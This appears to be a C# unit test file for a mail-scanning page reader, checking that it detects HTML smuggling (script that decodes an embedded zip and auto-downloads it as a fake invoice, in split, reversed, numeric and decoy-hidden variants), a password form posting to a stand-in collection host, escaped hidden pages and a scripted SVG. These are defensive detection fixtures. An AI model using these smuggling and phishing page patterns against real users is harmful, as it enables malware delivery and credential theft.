using System.Text;
using Postvakt.Documents.Kinds;
using Postvakt.Documents.Report;
using Postvakt.Documents.Tests.Building;

namespace Postvakt.Documents.Tests.Html;

public sealed class PageReaderTests
{
    private static byte[] Archive()
    {
        using var stream = new MemoryStream();
        using (var zip = new System.IO.Compression.ZipArchive(stream, System.IO.Compression.ZipArchiveMode.Create))
        {
            using var entry = zip.CreateEntry("note.txt").Open();
            entry.Write(Encoding.ASCII.GetBytes(string.Join(' ', Enumerable.Range(0, 200))));
        }
        return stream.ToArray();
    }

    private static string Smuggling(string data, string decode) => $$"""
        <html><body><p>Your document is loading</p><script>
        var d = {{data}};
        var b = new Blob([{{decode}}], {type: 'application/zip'});
        var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'Invoice_2291.zip'; a.click();
        </script></body></html>
        """;

    [Fact]
    public void Page_ThatBuildsAnArchive_SmugglesIt()
    {
        var file = Look.At("Invoice.html", Smuggling($"'{Convert.ToBase64String(Archive())}'", "atob(d)"));
        Assert.True(file.Has(FindingKinds.PageSmuggles));
        Assert.Contains(file.All, f => f.Name == "Invoice_2291.zip" && f.Kind == FileKind.Zip);
        Assert.Contains(file.All, f => f.Path.EndsWith("Invoice_2291.zip » note.txt", StringComparison.Ordinal));
    }

    [Fact]
    public void Page_ThatSplitsItsArchive_SmugglesIt()
    {
        var text = Convert.ToBase64String(Archive());
        var file = Look.At("a.html", Smuggling($"'{text[..80]}' + \"{text[80..200]}\"\n + '{text[200..]}'", "atob(d)"));
        Assert.True(file.Has(FindingKinds.PageSmuggles));
    }

    [Fact]
    public void Page_WithAnArchiveAsNumbers_SmugglesIt()
    {
        var file = Look.At("a.html", Smuggling($"[{string.Join(',', Archive())}]", "new Uint8Array(d)"));
        Assert.True(file.Has(FindingKinds.PageSmuggles));
    }

    [Fact]
    public void Page_WithAnArchiveBackwards_SmugglesIt()
    {
        var turned = Convert.ToBase64String([.. Archive(), 0]).ToCharArray();
        Array.Reverse(turned);
        if (turned[0] != '=')
        {
            turned = Convert.ToBase64String([.. Archive(), 0, 0]).ToCharArray();
            Array.Reverse(turned);
        }
        Assert.True(Look.At("a.html", Smuggling($"'{new string(turned)}'", "atob(d.split('').reverse().join(''))")).Has(FindingKinds.PageSmuggles));
    }

    [Fact]
    public void Page_WithAnArchiveInALink_SmugglesIt()
    {
        var file = Look.At("a.html", $"<html><a download='x.zip' href='data:application/zip;base64,{Convert.ToBase64String(Archive())}'>open</a></html>");
        Assert.True(file.Has(FindingKinds.PageSmuggles));
    }

    [Fact]
    public void Page_ThatAsksForAPassword_SaysWhereItGoes()
    {
        var file = Look.At("a.htm", "<html><form action='https://collect.example/p.php'><input type=password name=p></form></html>");
        Assert.Contains(file.Findings, f => f.Kind == FindingKinds.PagePassword && f.Text == "https://collect.example/p.php");
    }

    [Fact]
    public void Page_ThatLeadsOn_SaysWhere()
    {
        var file = Look.At("a.html", "<html><meta http-equiv='refresh' content='0; url=https://b.example/next'></html>");
        Assert.Contains("https://b.example/next", file.Urls());
        Assert.True(file.Has(FindingKinds.PageMoves));
    }

    [Fact]
    public void Page_HiddenBehindEscapes_IsReadInside()
    {
        var inner = "<html><body><form action='https://c.example/'><input type='password'></form></body></html>";
        var escaped = string.Concat(inner.Select(c => $"%{(int)c:X2}"));
        var file = Look.At("a.html", $"<html><script>document.write(unescape('{escaped}'))</script></html>");
        Assert.True(file.Has(FindingKinds.PageHidden));
        Assert.True(file.Has(FindingKinds.PagePassword));
    }

    [Fact]
    public void Picture_WithScript_IsNoPicture()
    {
        var file = Look.At("logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location.href='https://d.example/'</script></svg>");
        Assert.Equal(FileKind.Svg, file.Kind);
        Assert.True(file.Has(FindingKinds.PictureActs));
    }

    [Fact]
    public void Page_WithAnOrdinaryScript_HasNoFinding()
    {
        var file = Look.At("report.html", "<html><head><style>p{}</style><script>function sort(t){return [1,2,3].sort()}</script></head><body><p>Sales 2021</p><a href='https://www.example/'>more</a></body></html>");
        Assert.Empty(file.Findings);
        Assert.Equal(["https://www.example/"], file.Urls());
    }

    [Fact]
    public void Page_ThatExportsATable_OnlySaves()
    {
        var file = Look.At("report.html", "<html><script>function x(){var b=new Blob([t],{type:'text/csv'});var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='sales.csv';a.click()}</script><p>Sales</p></html>");
        Assert.True(file.Has(FindingKinds.PageSaves));
        Assert.False(file.Has(FindingKinds.PageBuildsFile));
    }

    [Fact]
    public void Page_ThatTalksOfShells_IsNoMacro() =>
        Assert.Empty(Look.At("a.html", "<html><script>var langs=['bash','powershell'];var x=new XMLHttpRequest();x.open('GET','https://a.example/')</script></html>").Findings);

    [Fact]
    public void Page_NestedWithoutEnd_IsReadAllTheSame() =>
        Assert.Contains("https://e.example/", Look.At("a.html", "<html>" + string.Concat(Enumerable.Repeat("<div>", 100_000)) + "<a href='https://e.example/'>x").Urls());

    [Fact]
    public void Page_ThatRefreshes_MovesWhereverItsAttributesStand() =>
        Assert.Contains(Look.At("a.html", "<html><meta content='0; url=https://a.example/next' http-equiv=Refresh></html>").Findings, f => f.Kind == FindingKinds.PageMoves && f.Text == "https://a.example/next");

    [Fact]
    public void Tag_WithMoreAttributesThanAreLookedAt_IsIncomplete() =>
        Assert.Contains(Look.At("a.html", $"<html><meta {string.Concat(Enumerable.Repeat("content=a ", 300))}></html>").Unread(), t => t.Contains("attributes", StringComparison.Ordinal));

    [Fact]
    public void Attributes_OfATag_AreLookedAtWithinTheTime() =>
        Assert.Contains(Look.Until(120, "a.html", Encoding.ASCII.GetBytes($"<html><meta {string.Concat(Enumerable.Repeat("content=a ", 190))}></html>")).Unread(), t => t.StartsWith("not done", StringComparison.Ordinal));

    [Fact]
    public void Page_WithMoreScriptsThanAreRead_IsIncomplete() =>
        Assert.Contains(Look.At("a.html", $"<html>{string.Concat(Enumerable.Repeat("<script>x=1</script>", 250))}</html>").Unread(), t => t.Contains("scripts", StringComparison.Ordinal));

    [Fact]
    public void Page_LongerThanIsRead_IsIncomplete() =>
        Assert.Contains(Look.Long("a.html", Encoding.ASCII.GetBytes($"<html><p>{new string('a', (8 << 20) + 100)}</p></html>")).Unread(), t => t.Contains("were read", StringComparison.Ordinal));

    [Fact]
    public void Archive_BehindManyMeaninglessLiterals_IsSmuggled()
    {
        var random = new Random(5);
        var decoys = string.Concat(Enumerable.Range(0, 60).Select(n =>
        {
            var bytes = new byte[90];
            random.NextBytes(bytes);
            bytes[0] = 0xFE;
            return $"var n{n} = '{Convert.ToBase64String(bytes)}';\n";
        }));
        Assert.True(Look.At("a.html", Smuggling($"'x';\n{decoys} d = '{Convert.ToBase64String(Archive())}'", "atob(d)")).Has(FindingKinds.PageSmuggles));
    }

    [Theory]
    [InlineData("1; // don't use `this\nd = ")]
    [InlineData("1; /* a \" and a ` and a ' \n*/ d = ")]
    [InlineData("/[`'\"]/; d = ")]
    [InlineData("'https://a.example/'; d = ")]
    public void Archive_BehindAStrayQuote_IsSmuggled(string before) =>
        Assert.True(Look.At("a.html", Smuggling($"{before}'{Convert.ToBase64String(Archive())}'", "atob(d)")).Has(FindingKinds.PageSmuggles));

    [Fact]
    public void Page_ThatBuildsMoreFilesThanAreTaken_IsIncomplete()
    {
        var files = string.Concat(Enumerable.Range(0, 30).Select(n => $"var n{n} = '{Convert.ToBase64String(Archive())}';\n"));
        Assert.Contains(Look.At("a.html", Smuggling($"1;\n{files}", "n1")).Unread(), t => t.Contains("literals", StringComparison.Ordinal));
    }
}
